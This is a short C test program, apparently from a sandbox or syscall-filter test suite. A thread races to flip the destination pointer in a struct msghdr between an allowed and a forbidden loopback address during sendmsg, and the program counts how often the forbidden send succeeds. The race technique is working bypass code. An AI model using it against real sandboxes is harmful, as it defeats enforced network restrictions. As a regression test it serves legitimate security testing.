// SPDX-License-Identifier: Apache-2.0
// A thread flips the pointer to the address in struct msghdr: one level deeper.
#include "attack.h"

static struct sockaddr_in ok, bad;
static struct msghdr m;
static void *pointers(void *arg)
{
	for (;;) {
		*(void *volatile *)&m.msg_name = &bad;
		for (volatile int i = 0; i < 400; i++)
			;
		*(void *volatile *)&m.msg_name = &ok;
		for (volatile int i = 0; i < 300; i++)
			;
	}
	return arg;
}

int main(void)
{
	ok = loopback("ATTACK_OK"), bad = loopback("ATTACK_BAD");
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	must(s, "socket");
	char byte = 'x';
	struct iovec v = {&byte, 1};
	m = (struct msghdr){.msg_name = &ok, .msg_namelen = sizeof ok, .msg_iov = &v, .msg_iovlen = 1};
	start(pointers, NULL);
	while (race_more()) {
		if (sendmsg(s, &m, 0) < 0)
			continue;
		struct pollfd p = {s, POLLIN, 0};
		struct sockaddr_in from;
		socklen_t n = sizeof from;
		if (poll(&p, 1, 50) > 0 && recvfrom(s, &byte, 1, MSG_DONTWAIT, (struct sockaddr *)&from, &n) == 1)
			race_won(from.sin_port == bad.sin_port);
	}
	race_end();
}
